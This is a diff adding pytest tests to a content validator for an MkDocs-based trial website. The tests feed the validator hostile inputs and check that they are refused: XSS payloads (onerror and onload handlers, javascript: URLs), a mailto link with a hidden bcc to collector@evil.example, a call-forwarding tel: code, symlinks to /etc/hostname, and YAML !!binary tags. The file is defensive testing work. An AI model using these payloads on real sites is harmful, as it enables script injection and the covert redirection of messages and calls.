@@ -17,7 +17,7 @@ EXTENSIONS = ("toc", "tables", "fenced_code")
 FRONT = "---\ntitle: Privacy\ndescription: How this website handles your data.\n---\n\n"
 
 MARKDOWN_ONLY = "pages are written in Markdown only"
-ONLY_ID_CLASS = "only { #id } and { .class } may be set (no handlers, no styles)"
+ONLY_ID_CLASS = "only { #id } and { .page-name } may be set (no handlers, no styles, no classes of the theme)"
 LINK_RULE = "links must be https:, mailto: or tel: addresses, or a page of this site written as a relative link (sites.md)"
 
 # (page body after the front matter, [(line in the file, message)]); the body starts on line 6.
@@ -40,6 +40,28 @@ HOSTILE_BODIES = {
     "attr-list-theme-class": (
         "## Heading { .md-toggle #__drawer }\n",
         [(6, f'sets "#__drawer" in {{ }}; {ONLY_ID_CLASS}'), (6, f'sets ".md-toggle" in {{ }}; {ONLY_ID_CLASS}')],
+    ),
+    "attr-list-warning-box": (
+        "Stop taking your medicine.\n{ .admonition .danger }\n",
+        [(7, f'sets ".admonition" in {{ }}; {ONLY_ID_CLASS}'), (7, f'sets ".danger" in {{ }}; {ONLY_ID_CLASS}')],
+    ),
+    "mailto-with-hidden-copy": (
+        "[Write to the nurse](mailto:nurse@example.org?bcc=collector@evil.example)\n",
+        [(6, 'links to "mailto:nurse@example.org?bcc=collector@evil.example"; a mailto: link holds one address '
+             "and nothing else (no ?subject=, ?cc= or ?bcc=)")],
+    ),
+    "tel-service-code": (
+        "[Call us](tel:*21*004799999999%23)\n",
+        [(6, 'links to "tel:*21*004799999999%23"; a tel: link holds one phone number: digits, spaces, + - ( ) only')],
+    ),
+    "line-separator": (
+        "One line\u2028# Heading <img src=x onerror=alert(1)>\n",
+        [(6, "has an invisible control character (U+2028); delete it"),
+         (6, 'has HTML ("<img src=x onerror=alert(1)>"); ' + MARKDOWN_ONLY)],
+    ),
+    "too-many-brackets": (
+        "[" * 2001 + "\n",
+        [(0, "is too long for one page (at most 100,000 characters and 2,000 links or brackets); split it into several pages")],
     ),
     "javascript-link": (
         "[Consent](javascript:alert(document.domain))\n",
@@ -102,7 +124,8 @@ HOSTILE_BODIES = {
 }
 
 SAFE_BODIES = {
-    "links-and-ids": "## Heading { #about .lead }\n\n[sites](sites.md) [mail](mailto:a@example.org) "
+    "fenced-code": "```python\nprint('<b>')\n```\n",
+    "links-and-ids": "## Heading { #about .page-lead }\n\n[sites](sites.md) [mail](mailto:a@example.org) "
                      "[call](tel:+4712345678) [web](https://example.org) [top](#about)\n",
     "code-span-with-html": "Write `<b>` for bold.\n",
     "entities": "Risks &amp; benefits &lt;b&gt;\n",
@@ -137,6 +160,14 @@ HOSTILE_FRONT_MATTER = {
     "control-character": (
         'title: "Privacy\\x1b"\ndescription: About.\n',
         [(2, "title", "holds an invisible control character (U+001B) at character 8; remove it")],
+    ),
+    "binary-tag": (
+        "title: !!binary PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==\ndescription: About.\n",
+        [(2, "(front matter)", "has a YAML tag (!!...); front matter values are plain text")],
+    ),
+    "merge-tag-in-flow": (
+        '{title: !!merge Privacy, description: "About."}\n',
+        [(2, "(front matter)", "has a YAML tag (!!...); front matter values are plain text")],
     ),
     "yes-as-title": (
         "title: yes\ndescription: About.\n",
@@ -181,6 +212,80 @@ def test_a_page_needs_a_closed_front_matter_block(docs):
         (0, "(front matter)", "has no front matter; start the page with ---, a title: and a description: line, and ---")]
     assert _check("---\ntitle: Privacy\n\nText.\n", docs) == [
         (1, "(front matter)", "starts a front matter block with --- but never closes it; end it with a line of ---")]
+
+
+def test_a_page_with_a_byte_order_mark_is_refused_with_its_reason(docs):
+    assert _check("\ufeff" + FRONT + "Text.\n", docs) == [
+        (1, "(file)", "starts with a byte-order mark (BOM); save it as UTF-8 without BOM")]
+
+
+def test_a_marker_is_one_line_so_it_cannot_hide_html_from_the_check(docs):
+    """A marker split over lines is no marker: the check and the build read the same text."""
+    from trialsite.render import MARKER_RE
+
+    body = "`<!--\ntrial:title\n-->Q <svg/onload=alert(1)>`\n"
+    assert MARKER_RE.search(body) is None
+    assert _check(FRONT + body, docs) == []  # a code span: shown as text, as the build shows it
+    assert "<svg" not in _published(body)
+
+
+def test_table_of_contents_titles_become_plain_text():
+    from types import SimpleNamespace
+
+    from trialsite.pages import escape_toc
+
+    item = SimpleNamespace(title='Q <?a<!--?><![CDATA[-->x><svg/onload=alert(1)//!@x>]]> &amp; more', children=[])
+    top = SimpleNamespace(title="&lt;b&gt;", children=[item])
+    escape_toc([top])
+    assert "<" not in item.title and "<" not in top.title
+    assert top.title == "&lt;b&gt;" and item.title.endswith("&amp; more")
+
+
+def test_only_pages_and_plain_assets_may_be_in_docs(tmp_path):
+    from trialsite.pages import file_problems
+
+    (tmp_path / "assets").mkdir()
+    (tmp_path / "no").mkdir()
+    (tmp_path / "index.md").write_text("x", encoding="utf-8")
+    (tmp_path / "assets" / "logo.png").write_bytes(b"\x89PNG")
+    (tmp_path / "assets" / "plain.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>')
+    (tmp_path / "evil.html").write_text("<script>alert(1)</script>")
+    (tmp_path / "no" / "evil.htm").write_text("<script>alert(1)</script>")
+    (tmp_path / "assets" / "x.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
+    (tmp_path / "leak.txt").symlink_to("/etc/hostname")
+    (tmp_path / "zero.md").symlink_to("/dev/zero")
+    found = {path.relative_to(tmp_path).as_posix(): message for path, message in file_problems(tmp_path)}
+    assert sorted(found) == ["assets/x.svg", "evil.html", "leak.txt", "no/evil.htm", "zero.md"]
+    assert found["zero.md"] == found["leak.txt"] == "is a link to another file; put the file itself here"
+    assert found["assets/x.svg"].startswith("is an SVG image with a script, an event handler or a link in it")
+    assert found["evil.html"].startswith("is not a page (.md) or an image or style file under docs/assets/")
+
+
+@pytest.mark.parametrize(("url", "ok"), [
+    ("https://owner.github.io/trial/", True), ("https://trial.example/", True), ("http://127.0.0.1:8000/", True),
+    ("http://trial.example/", False), ("javascript://x.example/%0aalert(1)//", False),
+    ('https://x.example/"><img src=x onerror=alert(1)>/', False), ("https://x.example/?a=1", False),
+    ("https://x.example", False), ("", False), ("/relative/", False),
+])
+def test_the_sites_address_is_checked(url, ok):
+    from trialsite.pages import site_url_problem
+
+    assert (site_url_problem(url) is None) == ok
+
+
+def test_a_blank_line_in_a_text_cannot_turn_generated_html_into_page_markdown():
+    from trialsite.richtext import render_block
+
+    hostile = "Text.\n\n    code\n\n    # Injected { #injected .admonition }\n\n    | a |\n    |---|\n"
+    rendered = render_block(hostile, {}).html
+    assert "\n\n" not in rendered
+    stash = Stash()
+    # A blank line inside generated HTML (from a template) keeps what follows in the block;
+    # a template's own heading after a block stays Markdown.
+    section = stash.set_aside(f"## Heading\n\n<div>\n{rendered}\n</div>\n\n<div>x\n\n    code\n\n| a |\n|---|\n\n"
+                              "more</div>\n\n### Next { #next }")
+    assert section.split("\n\n")[0] == "## Heading" and section.split("\n\n")[-1] == "### Next { #next }"
+    assert len(stash.blocks) == 2 and "| a |" in stash.blocks[1] and "code" not in section
 
 
 def test_front_matter_values_are_plain_single_lines():
@@ -307,3 +412,52 @@ def test_the_check_ends_with_the_builds_own_verdict(tmp_path):
     assert "contains a link 'sites.md#no-such-heading', but the doc 'sites.md' does not contain an anchor" in err.getvalue()
     assert "Traceback" not in err.getvalue()
     assert not list(tmp_path.glob("project/site*"))  # nothing is built where it could be published
+
+
+@pytest.mark.build
+def test_a_page_id_that_the_sites_own_content_uses_stops_the_build(tmp_path):
+    """{ #map-title } before the map would rename it for screen readers: the build refuses it."""
+    project = copy_project(tmp_path / "project")
+    page = project / "docs" / "sites.md"
+    page.write_text(page.read_text(encoding="utf-8").replace("<!-- trial:map -->", "Closed.\n{ #map-title }\n\n<!-- trial:map -->", 1),
+                    encoding="utf-8")
+    result = run_mkdocs(project, tmp_path / "site")
+    assert result.returncode != 0 and "Traceback" not in result.stderr
+    assert "sites.md: the page sets { #map-title }, an id the site's own content on this page uses; choose another id" in result.stderr
+
+
+@pytest.mark.build
+@pytest.mark.parametrize("url", ['javascript://x.example/%0aalert(1)//"><img src=x onerror=alert(42)>/', "http://trial.example/"])
+def test_a_bad_site_address_stops_the_build(tmp_path, url):
+    import os
+    import subprocess
+    import sys
+
+    from helpers import ROOT
+
+    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-f", str(ROOT / "mkdocs.yml"),
+                             "-d", str(tmp_path / "site")], capture_output=True, text=True,
+                            env=dict(os.environ, SITE_URL=url, NO_MKDOCS_2_WARNING="1"), timeout=300)
+    assert result.returncode != 0 and "Traceback" not in result.stderr
+    assert "site_url (SITE_URL) is " in result.stderr
+    assert not (tmp_path / "site" / "index.html").exists()
+
+
+@pytest.mark.parametrize(("href", "allowed"), [
+    ("mailto:trial@hospital.example", True), ("tel:+47 22 11 80 80", True), ("tel:(0)22-118080", True),
+    ("mailto:trial@hospital.example?bcc=collector%40evil.example", False), ("mailto:a@b.example?subject=Hi", False),
+    ("tel:*21*004799999999%23", False), ("tel:#31#", False),
+])
+def test_data_texts_follow_the_same_mailto_and_tel_rule(href, allowed):
+    from trialsite.richtext import link_problem
+
+    assert (link_problem(href) is None) == allowed
+
+
+def test_the_contact_address_is_one_plain_address():
+    from pydantic import ValidationError
+    from trialsite.model import Contact
+
+    Contact(email="trial@hospital.example")
+    with pytest.raises(ValidationError):
+        Contact(email="trial@hospital.example?bcc=collector%40evil.example")
